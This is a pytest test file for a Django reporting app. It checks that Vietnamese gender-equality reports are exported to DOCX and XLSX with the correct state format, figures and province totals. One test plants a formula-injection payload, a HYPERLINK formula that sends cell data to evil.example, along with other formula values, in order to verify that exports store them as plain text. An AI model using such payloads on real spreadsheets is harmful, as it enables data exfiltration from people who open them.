"""The exported files opened as a reader would: the DOCX with python-docx (state-format
header, title, sections, the indicator annex with the real figures, the signature) and
the XLSX with openpyxl (sheets, frozen headers, number formats, values equal to the
database, the province's contributor counts and per-commune sheet)."""

from __future__ import annotations

import io
from typing import Any

import docx
import openpyxl
import pytest
from django.utils import timezone
from docx.enum.section import WD_ORIENT

from apps.indicators.models import AggregateValue, Indicator, Submission
from apps.indicators.tests.world import HATAY_2026S1
from apps.reports import services, storage
from apps.reports.models import ConsolidatedReport, ReportFile
from core.text import fold


@pytest.fixture
def figures(world: Any) -> Any:
    """Hà Tây approved for 2026S1 (and 2025S1 a year before); two other communes approved
    and one still in draft."""
    demo = world.demo
    world.approved(demo.commune, {("BD-C02", ""): 20}, period="2025S1")
    world.approved(demo.commune, HATAY_2026S1)
    first, second, third = world.communes(3)
    world.approved(first, {("BD-C02", ""): 40, ("BD-S02", ""): (1, 4)})
    world.approved(second, {("BD-C02", ""): 42, ("BD-S02", ""): (3, 4)})
    world.filled(third, {("BD-C02", ""): 1000})  # a draft: never in the province's totals
    world.others = (first, second, third)
    return world


def _export(report: ConsolidatedReport, actor: Any, kind: str) -> bytes:
    row: ReportFile = services.export_report(report, kind, actor=actor)
    return (storage.files_dir() / row.file_path).read_bytes()


def _commune_report(world: Any) -> ConsolidatedReport:
    owner = world.demo.user("owner")
    report = services.open_report(world.demo.commune, world.form, "2026S1", actor=owner)
    return services.save_report(
        report,
        actor=owner,
        sections={"signer": "Trần Thị Hoa"},
        number="15/BC-UBND",
        revision=report.revision,
    )


def _province_report(world: Any) -> ConsolidatedReport:
    return services.open_report(world.demo.province, world.form, "2026S1", actor=world.demo.user("province"))


def _texts(document: Any) -> list[str]:
    return [p.text for p in document.paragraphs]


def _annex_row(table: Any, code: str) -> list[str]:
    return next([c.text for c in row.cells] for row in table.rows if row.cells[1].text == code)


def test_the_commune_docx_is_in_the_state_format_with_its_figures(figures: Any) -> None:
    world = figures
    data = _export(_commune_report(world), world.demo.user("owner"), "docx")
    document = docx.Document(io.BytesIO(data))
    header, number_row = document.tables[0].rows
    assert header.cells[0].text.split("\n")[:2] == ["ỦY BAN NHÂN DÂN", "XÃ HÀ TÂY"]
    assert header.cells[1].text.split("\n")[:2] == [
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
    ]
    assert number_row.cells[0].text == "Số: 15/BC-UBND"
    today = timezone.localdate()
    month = f"{today.month:02d}" if today.month < 3 else str(today.month)
    assert number_row.cells[1].text == f"Hà Tây, ngày {today:%d} tháng {month} năm {today.year}"
    texts = _texts(document)
    title = texts.index("BÁO CÁO")
    assert (
        texts[title + 1]
        == "Kết quả thực hiện công tác bình đẳng giới và vì sự tiến bộ của phụ nữ 6 tháng đầu năm 2026"
    )
    assert "Kính gửi: Sở Nội vụ thành phố Hải Phòng" in texts
    headings = [
        "I. TÌNH HÌNH CHUNG, CÔNG TÁC CHỈ ĐẠO, ĐIỀU HÀNH",
        "II. KẾT QUẢ THỰC HIỆN",
        "1. Kết quả thực hiện các nhiệm vụ",
        "2. Kết quả thực hiện các chỉ tiêu",
        "III. ĐÁNH GIÁ CHUNG",
        "IV. PHƯƠNG HƯỚNG, NHIỆM VỤ 6 THÁNG CUỐI NĂM 2026",
        "V. ĐỀ XUẤT, KIẾN NGHỊ",
    ]
    positions = [texts.index(h) for h in headings]
    assert positions == sorted(positions)
    heading = document.paragraphs[positions[0]]
    assert all(run.bold for run in heading.runs)
    # the tasks numbered 1.1, 1.2 … under "1.", the plan's own number in brackets: no second
    # "II.1." heading inside section II
    assert any(t.startswith("1.1. ") and "(nhiệm vụ II.1 của Kế hoạch số 171/KH-UBND)" in t for t in texts)
    assert not any(t.startswith("II.1") for t in texts)
    # the signature block and the recipients
    signature = document.tables[1].rows[0]
    assert signature.cells[1].text.split("\n")[:3] == ["TM. ỦY BAN NHÂN DÂN", "KT. CHỦ TỊCH", "PHÓ CHỦ TỊCH"]
    assert signature.cells[1].text.strip().endswith("Trần Thị Hoa")
    assert signature.cells[0].text.startswith("Nơi nhận:\n- Sở Nội vụ thành phố Hải Phòng (báo cáo);")
    assert signature.cells[0].text.endswith("- Lưu: VT, VHXH.")
    # Phụ lục I with the commune's figures
    assert "Phụ lục I" in texts and "KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU" in texts
    annex = document.tables[2]
    assert [c.text for c in annex.rows[0].cells] == [
        "STT", "Mã", "Tên chỉ tiêu", "Đơn vị tính", "Kế hoạch", "Thực hiện", "Tử số", "Mẫu số", "Cùng kỳ năm trước", "Đánh giá",
    ]  # fmt: skip
    c02 = _annex_row(annex, "BD-C02")
    assert c02[2] == Indicator.objects.get(code="BD-C02").name_vi
    assert (c02[3], c02[5], c02[8]) == ("lượt người", "42", "20")
    index = [row.cells[1].text for row in annex.rows].index("BD-C02")
    women = [c.text for c in annex.rows[index + 2].cells]
    assert (women[2], women[5]) == ("- Nữ", "30")
    s02 = _annex_row(annex, "BD-S02")
    assert (s02[5], s02[6], s02[7]) == ("75%", "3", "4")
    # the note names the form and the period in words, not their codes
    assert (
        "Ghi chú: số liệu theo báo cáo 6 tháng công tác bình đẳng giới và vì sự tiến bộ của phụ nữ, "
        "kỳ 6 tháng đầu năm 2026 (đã duyệt); (CL): mục tiêu Chiến lược quốc gia."
    ) in texts
    assert not any("2026S1" in t or "BD-6T" in t for t in texts)
    # A4 portrait for the report, landscape for the annex; Times New Roman throughout
    body, annex_section = document.sections[0], document.sections[-1]
    assert (round(body.page_width.mm), round(body.page_height.mm)) == (210, 297)
    assert annex_section.orientation == WD_ORIENT.LANDSCAPE
    assert round(body.left_margin.mm) == 30
    assert document.styles["Normal"].font.name == "Times New Roman"


def test_the_province_docx_sums_the_approved_communes_and_lists_every_commune(figures: Any) -> None:
    world = figures
    data = _export(_province_report(world), world.demo.user("province"), "docx")
    document = docx.Document(io.BytesIO(data))
    assert document.tables[0].rows[0].cells[0].text.split("\n")[:2] == [
        "ỦY BAN NHÂN DÂN",
        "THÀNH PHỐ HẢI PHÒNG",
    ]
    annex = document.tables[2]
    assert annex.rows[0].cells[-1].text == "Số xã báo cáo"
    c02 = _annex_row(annex, "BD-C02")
    assert (c02[5], c02[10]) == ("124", "3")  # 42 + 40 + 42, never the draft's 1000
    s02 = _annex_row(annex, "BD-S02")
    # Σ numerators / Σ denominators = 7/12, not the average of 75%, 25% and 75%
    assert (s02[5], s02[6], s02[7], s02[10]) == ("58,3%", "7", "12", "3")
    texts = _texts(document)
    assert "Phụ lục VI" in texts
    communes = document.tables[3]
    assert [c.text for c in communes.rows[0].cells][:5] == [
        "STT",
        "Xã, phường",
        "Trạng thái",
        "Ngày gửi",
        "Đúng hạn",
    ]
    rows = {row.cells[1].text: [c.text for c in row.cells] for row in communes.rows[1:]}
    expected = world.demo.province.children.filter(level="commune", is_active=True).count()
    assert len(rows) == expected
    assert list(rows) == sorted(rows, key=fold)  # Vietnamese alphabetical order
    assert rows["Xã Hà Tây"][2] == "Đã duyệt"
    assert rows[world.others[2].name][2] == "Đang nhập"
    assert rows[world.demo.other_commune.name][2] == "Chưa gửi"
    assert rows["Xã Hà Tây"][4] == "Trễ hạn"  # submitted in November for a report due in June
    c02_column = [c.text for c in communes.rows[0].cells].index("BD-C02")
    assert rows["Xã Hà Tây"][c02_column] == "42"
    assert any("Có 3/" in t and "gửi báo cáo" in t for t in texts)


def _columns(sheet: Any) -> dict[str, int]:
    """Header -> column: the fixed columns by their merged label (row 6), the results by
    their disaggregation (row 7, under "Kết quả thực hiện")."""
    found = {}
    for column in range(1, sheet.max_column + 1):
        top, below = sheet.cell(row=6, column=column).value, sheet.cell(row=7, column=column).value
        found[below if below is not None else top] = column
    return found


def _row_of(sheet: Any, code: str) -> int:
    return next(r for r in range(8, sheet.max_row + 1) if sheet.cell(row=r, column=2).value == code)


def _codes(sheet: Any) -> list[str]:
    return [c for r in range(8, sheet.max_row + 1) if (c := sheet.cell(row=r, column=2).value)]


def test_the_commune_workbook_has_the_figures_as_in_the_database(figures: Any) -> None:
    world = figures
    data = _export(_commune_report(world), world.demo.user("owner"), "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    # the sheet named by its period in words, the header with the period and its dates
    assert workbook.sheetnames == ["6 tháng đầu năm 2026"]
    sheet = workbook["6 tháng đầu năm 2026"]
    assert sheet.freeze_panes == "E8"
    assert sheet["A2"].value == "Đơn vị: Xã Hà Tây"
    assert sheet["A3"].value.startswith(
        "Kỳ báo cáo: 6 tháng đầu năm 2026 (01/01/2026 - 30/06/2026); Báo cáo số liệu: đã duyệt"
    )
    assert sheet["A4"].value.startswith("Lập lúc: ")
    columns = _columns(sheet)
    assert [sheet.cell(row=6, column=c).value for c in range(1, 6)] == [
        "STT",
        "Mã",
        "Tên chỉ tiêu",
        "Đơn vị tính",
        "Kết quả thực hiện",
    ]
    # a count has one value per disaggregation and no numerator or denominator rows
    c02 = _row_of(sheet, "BD-C02")
    total, women, men = (sheet.cell(row=c02, column=columns[g]) for g in ("Tổng", "Nữ", "Nam"))
    assert (total.value, women.value, men.value) == (42, 30, 12)
    assert total.number_format == "#,##0"
    assert sheet.cell(row=c02 + 1, column=3).value != "Tử số"
    # a percentage keeps its value and, on the two rows under it, both of its parts
    s02 = _row_of(sheet, "BD-S02")
    share = sheet.cell(row=s02, column=columns["Tổng"])
    assert share.value == pytest.approx(0.75) and share.number_format == "0.0%"
    assert [sheet.cell(row=s02 + n, column=3).value for n in (1, 2)] == ["Tử số", "Mẫu số"]
    assert sheet.cell(row=s02 + 1, column=columns["Tổng"]).value == 3
    assert sheet.cell(row=s02 + 2, column=columns["Tổng"]).value == 4
    assert "Tử số" not in columns and "Giá trị" not in columns
    # every indicator of the form is a row, in the form's order
    assert _codes(sheet) == [i.code for i in world.form.ordered_indicators()]
    assert sheet.column_dimensions["C"].width == 60
    # printed on A4 landscape, as wide as the page, the header rows on every page
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4)  # 9: A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.print_title_rows == "$6:$7"


def test_the_province_workbook_has_totals_with_contributors_and_a_sheet_of_communes(figures: Any) -> None:
    world = figures
    data = _export(_province_report(world), world.demo.user("province"), "xlsx")
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    assert workbook.sheetnames == ["6 tháng đầu năm 2026", "Theo xã 6 tháng đầu năm 2026"]
    totals = workbook["6 tháng đầu năm 2026"]
    columns = _columns(totals)
    c02 = _row_of(totals, "BD-C02")
    aggregate = AggregateValue.objects.get(
        form=world.form, province=world.demo.province, period="2026S1", indicator__code="BD-C02", category=""
    )
    assert totals.cell(row=c02, column=columns["Tổng"]).value == int(aggregate.numerator) == 124
    assert totals.cell(row=c02, column=columns["Số xã báo cáo"]).value == aggregate.contributors == 3
    s02 = _row_of(totals, "BD-S02")
    assert totals.cell(row=s02, column=columns["Tổng"]).value == pytest.approx(7 / 12)
    assert totals.cell(row=s02 + 1, column=columns["Tổng"]).value == 7
    assert totals.cell(row=s02 + 2, column=columns["Tổng"]).value == 12
    communes = workbook["Theo xã 6 tháng đầu năm 2026"]
    assert communes.freeze_panes == "C8"
    assert communes.page_setup.orientation == "landscape" and communes.print_title_rows == "$6:$7"
    names = [communes.cell(row=r, column=2).value for r in range(8, communes.max_row + 1)]
    assert len(names) == world.demo.province.children.filter(level="commune", is_active=True).count()
    assert names == sorted(names, key=fold)  # Vietnamese alphabetical order
    line = 8 + names.index("Xã Hà Tây")
    header = {communes.cell(row=6, column=c).value: c for c in range(1, communes.max_column + 1)}
    assert communes.cell(row=line, column=header["Trạng thái"]).value == "Đã duyệt"
    sent = communes.cell(row=line, column=header["Ngày gửi"])
    hatay = Submission.objects.get(unit=world.demo.commune, form=world.form, period="2026S1")
    assert sent.value.date() == timezone.localdate(hatay.completed_at) and sent.number_format == "dd/mm/yyyy"
    assert communes.cell(row=line, column=header["BD-C02"]).value == 42
    share = communes.cell(row=line, column=header["BD-S02"])
    assert share.value == pytest.approx(0.75) and share.number_format == "0.0%"
    draft = 8 + names.index(world.others[2].name)
    assert communes.cell(row=draft, column=header["Trạng thái"]).value == "Đang nhập"
    assert communes.cell(row=draft, column=header["BD-C02"]).value is None  # not approved: not shown


def test_an_annual_workbook_carries_the_halves_of_the_year(figures: Any) -> None:
    world = figures
    owner = world.demo.user("owner")
    report = services.open_report(world.demo.commune, world.annual, "2026", actor=owner)
    workbook = openpyxl.load_workbook(io.BytesIO(_export(report, owner, "xlsx")))
    assert workbook.sheetnames == ["Năm 2026", "6 tháng đầu năm 2026", "6 tháng cuối năm 2026"]
    half = workbook["6 tháng đầu năm 2026"]
    assert half.cell(row=_row_of(half, "BD-C02"), column=_columns(half)["Tổng"]).value == 42


def test_pasted_control_characters_never_break_an_export(world: Any) -> None:
    owner = world.demo.user("owner")
    report = services.open_report(world.demo.commune, world.form, "2026S1", actor=owner)
    report = services.save_report(
        report,
        actor=owner,
        sections={"proposals": "Đề nghị\x0b hỗ trợ\x00\r\n- thêm"},
        number="7\x0c/BC-UBND",
        revision=1,
    )
    assert report.sections["proposals"] == "Đề nghị hỗ trợ\n- thêm" and report.number == "7/BC-UBND"
    # text that reached the database another way is cleaned when the file is made
    ConsolidatedReport.objects.filter(pk=report.pk).update(
        sections={**report.sections, "causes": "Lý do\x1b"}
    )
    report.refresh_from_db()
    document = docx.Document(io.BytesIO(_export(report, owner, "docx")))
    assert "Lý do" in [p.text for p in document.paragraphs]
    assert openpyxl.load_workbook(io.BytesIO(_export(report, owner, "xlsx"))).sheetnames == [
        "6 tháng đầu năm 2026"
    ]


def test_text_typed_by_users_never_becomes_a_formula(figures: Any) -> None:
    """A province indicator named "=HYPERLINK(…)" with the unit "=1+1", and a commune whose
    name starts with "=", are written as text: no cell of either workbook is a formula."""
    import zipfile

    from apps.geo.models import AdministrativeUnit
    from apps.indicators import services as indicator_services
    from apps.indicators.models import FormIndicator

    world = figures
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'
    indicator = indicator_services.create_indicator(
        world.demo.province,
        actor=world.demo.user("province"),
        code="HP-F1",
        name_vi=evil,
        kind="count",
        unit_label="=1+1",
    )
    FormIndicator.objects.create(form=world.form, indicator=indicator, order=999)
    first = world.others[0]
    AdministrativeUnit.objects.filter(pk=first.pk).update(name="=2+3")
    for report, actor in (
        (_province_report(world), world.demo.user("province")),
        (_commune_report(world), world.demo.user("owner")),
    ):
        data = _export(report, actor, "xlsx")
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
            assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
        workbook = openpyxl.load_workbook(io.BytesIO(data))
        cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        written = {
            c.value: c.data_type for c in cells if isinstance(c.value, str) and c.value.startswith("=")
        }
        assert written[evil] == "s" and written["=1+1"] == "s"
        if report.unit == world.demo.province:
            assert written["=2+3"] == "s"  # the commune's name on the sheet of communes


def test_the_province_annex_assesses_only_percentages_against_the_strategy(world: Any) -> None:
    world.approved(world.demo.commune, {("BD-C01", ""): 45, ("BD-V04", ""): (19, 20)})
    world.approved(world.communes(1)[0], {("BD-C01", ""): 50, ("BD-V04", ""): (18, 20)})
    document = docx.Document(
        io.BytesIO(_export(_province_report(world), world.demo.user("province"), "docx"))
    )
    annex = document.tables[2]
    c01, v04 = _annex_row(annex, "BD-C01"), _annex_row(annex, "BD-V04")
    assert (c01[5], c01[9]) == ("95", "")  # 95 sessions in the city: no "Đạt" against ≥ 2 a commune
    assert (v04[5], v04[9]) == ("92,5%", "Đạt")
    assert any("không đánh giá đạt, chưa đạt ở cấp tỉnh" in p.text for p in document.paragraphs)
    owner = world.demo.user("owner")
    own = services.open_report(world.demo.commune, world.form, "2026S1", actor=owner)
    commune = docx.Document(io.BytesIO(_export(own, owner, "docx")))
    assert _annex_row(commune.tables[2], "BD-C01")[9] == "Đạt"  # a commune's own count is assessed
